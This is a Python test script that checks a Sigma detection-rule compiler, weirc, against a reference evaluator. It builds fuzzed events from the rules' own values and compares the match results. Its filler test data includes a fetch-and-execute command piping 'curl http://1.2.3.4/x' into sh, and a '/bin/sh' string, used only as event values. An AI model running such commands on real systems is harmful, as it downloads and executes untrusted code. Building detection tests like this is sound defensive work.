# SPDX-License-Identifier: GPL-2.0
"""Rules against an evaluator that knows nothing of Weir.

usage: reference.py WEIRC SCHEMA EVENTS_A_RULE RULES FOLDER...

All rules are compiled together; at most RULES of them, drawn by lot, are compared.

Reads Sigma rules with PyYAML and decides them straight from the YAML, with Python's re; makes events
out of the rules' own values, whole, changed a little, and mixed; and compares with weirc replay.
"""
import base64
import json
import os
import random
import re
import subprocess
import sys
import tempfile

import yaml

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
import taplib

DASHES = "-/\u2013\u2014\u2015"


def tokens(text):
    """Characters, and the wildcards as tuples."""
    out, i = [], 0
    while i < len(text):
        c = text[i]
        if c == "\\" and text[i + 1:i + 2] and text[i + 1] in "*?\\":
            out.append(text[i + 1])
            i += 1
        elif c in "*?":
            out.append((c,))
        else:
            out.append(c)
        i += 1
    return out


def to_regex(toks):
    """A pattern of bytes that the whole value is to match."""
    out = b""
    for t in toks:
        out += {("*",): b".*", ("?",): b"."}.get(t) or re.escape(t.encode())
    return re.compile(b"(?s)\\A" + out + b"\\Z", 0)


def lower(data):
    """ASCII lower case of bytes."""
    return bytes(b + 32 if 65 <= b <= 90 else b for b in data)


def windash(text):
    """All variants of a text; word boundaries as Python's re has them."""
    parts = re.split(r"\B[-/]\b", text)
    out = [parts[0]]
    for part in parts[1:]:
        out = [o + d + part for o in out for d in DASHES]
    return out


def offsets(text):
    """The three texts of base64offset."""
    data = text.encode()
    for i in range(3):
        code = base64.b64encode(b" " * i + data).decode()
        yield code[(0, 2, 3)[i]:(len(code), -3, -2)[(len(data) + i) % 3]]


class Value:
    """One value of an item, ready to be asked."""

    def __init__(self, mods, value):
        self.mods = mods
        self.value = value
        self.res = []
        if "re" in mods:
            flags = (re.I if "i" in mods else 0) | (re.M if "m" in mods else 0)
            flags |= re.S if "s" in mods else 0
            self.res = [re.compile(str(value).encode(), flags)]
        elif value is not None and "cidr" not in mods and "fieldref" not in mods:
            texts = [str(value).lower() if isinstance(value, bool) else str(value)]
            toks = [tokens(t) for t in texts]
            if "windash" in mods:
                toks = [tokens(v) for v in windash(texts[0])]
            if "base64offset" in mods:
                toks = [list(o) for o in offsets("".join(tokens(texts[0])))]
            for t in toks:
                before = [("*",)] if "contains" in mods or "endswith" in mods else []
                after = [("*",)] if "contains" in mods or "startswith" in mods else []
                t = before + [c if isinstance(c, tuple) else lower(c.encode()).decode()
                              for c in t] + after
                self.res.append(to_regex(t))

    def holds(self, fields, name):
        """Does it hold for a field of an event?"""
        have = fields.get(name)
        if self.value is None:
            return have is None
        if have is None:
            return False
        if "cidr" in self.mods:
            import ipaddress
            net = ipaddress.ip_network(self.value)
            address = ipaddress.ip_address(have)
            return net.version == address.version and address in net
        if "fieldref" in self.mods:
            other = fields.get(self.value)
            return other is not None and lower(other.encode()) == lower(have.encode())
        if isinstance(have, bool):
            return str(self.value).lower() == str(have).lower()
        if isinstance(have, int):
            return int(self.value) == have
        data = have.encode()
        if "re" in self.mods:
            return any(r.search(data) for r in self.res)
        return any(r.match(lower(data)) for r in self.res)


def selection(y):
    """A function of an event's fields."""
    if isinstance(y, dict):
        items = []
        for key, values in y.items():
            name, *mods = key.split("|")
            values = values if isinstance(values, list) else [values]
            items.append((name, all if "all" in mods else any, [Value(mods, v) for v in values]))
        return lambda f: all(how(v.holds(f, n) for v in vs) for n, how, vs in items)
    parts = [selection(item) for item in y]
    return lambda f: any(p(f) for p in parts)


class Rule:
    """A rule that can be asked."""

    def __init__(self, doc):
        self.uuid = doc["id"]
        self.type = doc["logsource"]["category"]
        detection = doc["detection"]
        self.sels = {k: selection(v) for k, v in detection.items() if k != "condition"}
        self.values = {}
        for key, value in detection.items():
            if key != "condition":
                self.collect(value)
        self.code = self.python(detection["condition"])

    def collect(self, y):
        """The values that the rule compares each field with."""
        if isinstance(y, list):
            for item in y:
                self.collect(item)
        elif isinstance(y, dict):
            for key, values in y.items():
                name, *mods = key.split("|")
                for v in values if isinstance(values, list) else [values]:
                    self.values.setdefault(name, []).append((mods, v))

    def python(self, condition):
        """The condition as Python."""
        def quantified(m):
            pattern = ".*" if m.group(2) == "them" else m.group(2).replace("*", ".*")
            names = [n for n in self.sels if re.fullmatch(pattern, n) and n[0] != "_"]
            return "%s([%s])" % ("all" if m.group(1) == "all" else "any",
                                 ",".join("S[%r](f)" % n for n in names))
        text = re.sub(r"\b(1|any|all) of (\S+?)(?=[\s)]|$)", quantified, condition)
        words = r"(?<![\w'\[])(?!(?:and|or|not|all|any|S|f)\b)([A-Za-z_]\w*)(?![\w'(])"
        text = re.sub(words, lambda m: "S[%r](f)" % m.group(1), text)
        return compile(text, condition, "eval")

    def holds(self, fields):
        """Does the rule match?"""
        return bool(eval(self.code, {"S": self.sels, "f": fields}))


def sample_text(rnd, mods, value, fields):
    """Something that a value might match, or nearly."""
    if value is None or "re" in mods and rnd.random() < 0.3:
        return rnd.choice(["", "x", "a" * 300, " -s http://1.2.3.4/ :\\a"])
    if "fieldref" in mods:
        return fields.get(value, "x")
    text = str(value)
    if "re" in mods:
        text = re.sub(r"\\s[+*]?", " ", text)
        text = re.sub(r"\(\?[a-z:]*|[()^$]", "", text)
        text = re.sub(r"\[\^?(.)[^]]*\](\{\d+,?\d*\}|[+*?])?", r"\1", text)
        text = re.sub(r"\\d(\{\d+,?\d*\}|[+*?])?", "7", text).replace("\\", "")
    elif "base64offset" in mods:
        text = base64.b64encode(b"x" * rnd.randrange(3) + text.encode()).decode()
    else:
        text = "".join(rnd.choice(["", "q", "zz/"]) if t == ("*",) else "k" if t == ("?",) else t
                       for t in tokens(text))
    if "windash" in mods and rnd.random() < 0.5:
        text = text.replace("-", rnd.choice(DASHES))
    return text


def near(rnd, text):
    """The text with a small change, perhaps."""
    how = rnd.randrange(8)
    if how == 0 and text:
        i = rnd.randrange(len(text))
        return text[:i] + text[i + 1:]
    if how == 1:
        i = rnd.randrange(len(text) + 1)
        return text[:i] + rnd.choice("aZ /-*\\\u00e9") + text[i:]
    if how == 2:
        return text.swapcase()
    return text


def one_field(rnd, name, values, kind, fields):
    """A value for a field, or None."""
    if kind in ("u64", "i64"):
        known = [int(v) for _, v in values if str(v).isdigit()] or [0]
        return rnd.choice(known + [known[0] + 1])
    if kind == "bool":
        return rnd.random() < 0.7
    if kind == "ip":
        nets = [str(v).split("/")[0] for _, v in values]
        return rnd.choice(nets + ["8.8.8.8", "10.0.0.1", "127.0.0.1", "192.168.3.4", "::1"])
    picks = [sample_text(rnd, m, v, fields) for m, v in
             rnd.sample(values, rnd.randint(1, min(len(values), 4)))]
    mods = [m for m, _ in values]
    if any("all" in m for m in mods) and rnd.random() < 0.7:
        picks = [sample_text(rnd, m, v, fields) for m, v in values]
        rnd.shuffle(picks)
    text = rnd.choice(["", "", " ", "x "]).join(picks)
    if any("contains" in m for m in mods) and rnd.random() < 0.5:
        text = "pre " + text + " post"
    if any("endswith" in m for m in mods) and rnd.random() < 0.8:
        text = rnd.choice(["/usr/bin", "C:\\x", ""]) + picks[-1]
    return near(rnd, text)[:8000]


def make_event(rnd, rule, kinds):
    """An event that the rule matches, or nearly."""
    fields = {}
    for name in sorted(rule.values):
        if rnd.random() < 0.95:
            fields[name] = one_field(rnd, name, rule.values[name], kinds[name], fields)
    for name, kind in kinds.items():
        if kind == "string" and name not in fields and rnd.random() < 0.1:
            fields[name] = rnd.choice(["", "/bin/sh", "root", "curl http://1.2.3.4/x | sh"])
    return {"type": rule.type, "fields": {k: v for k, v in fields.items() if len(str(v).encode())
                                          <= 8192}}


def main():
    """Compile, make events, ask both."""
    weirc, schema, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
    rnd = random.Random(20240719)
    extra = ["--schema", schema] if schema != "-" else []
    with tempfile.TemporaryDirectory() as folder:
        out = os.path.join(folder, "x.weir")
        done = subprocess.run([weirc, "compile", "--json", "--skip-unsupported", "-o", out] + extra +
                              sys.argv[5:], capture_output=True, text=True)
        if not taplib.result("compiles", done.returncode == 0, done.stdout[:500]):
            taplib.done()
        skipped = {p["file"] for p in json.loads(done.stdout)["skipped"]}
        types = json.loads(subprocess.run([weirc, "schema"] + extra, capture_output=True,
                                          text=True).stdout)["types"]
        kinds = {t["name"]: {f["name"]: f["kind"] for f in t["fields"]} for t in types}
        rules = []
        for top in sys.argv[5:]:
            for path, _, names in sorted(os.walk(top)):
                for name in sorted(names):
                    if os.path.join(path, name) not in skipped:
                        with open(os.path.join(path, name)) as f:
                            rules.append(Rule(yaml.safe_load(f)))
        rules = rnd.sample(rules, min(len(rules), int(sys.argv[4])))
        events = [make_event(rnd, r, kinds[r.type]) for r in rules for _ in range(count)]
        lines = os.path.join(folder, "e.jsonl")
        with open(lines, "w") as f:
            for e in events:
                f.write(json.dumps(e) + "\n")
        got = subprocess.run([weirc, "replay"] + extra + [out, lines], capture_output=True, text=True)
        answers = [json.loads(line) for line in got.stdout.splitlines()]
        compare(rules, events, answers, got.stderr)
    taplib.done()


def compare(rules, events, answers, stderr):
    """Every rule on every event of its type."""
    matched, wrong, ours = set(), [], {r.uuid for r in rules}
    for event, answer in zip(events, answers):
        want = sorted(r.uuid for r in rules if r.type == event["type"] and r.holds(event["fields"]))
        matched.update(want)
        have = sorted(ours.intersection(answer["matches"]))
        if want != have:
            wrong.append((event, want, have))
    for event, want, have in wrong[:5]:
        print("# " + json.dumps(event)[:600])
        print("#   only the reference: %s; only weirc: %s" % (sorted(set(want) - set(have)),
                                                              sorted(set(have) - set(want))))
    taplib.result("%d rules agree on %d events" % (len(rules), len(events)),
                  len(answers) == len(events) and not wrong,
                  "%d differ %s" % (len(wrong), stderr[:300]))
    taplib.result("%d of %d rules match some event" % (len(matched), len(rules)),
                  len(matched) * 10 >= len(rules) * 7)


main()
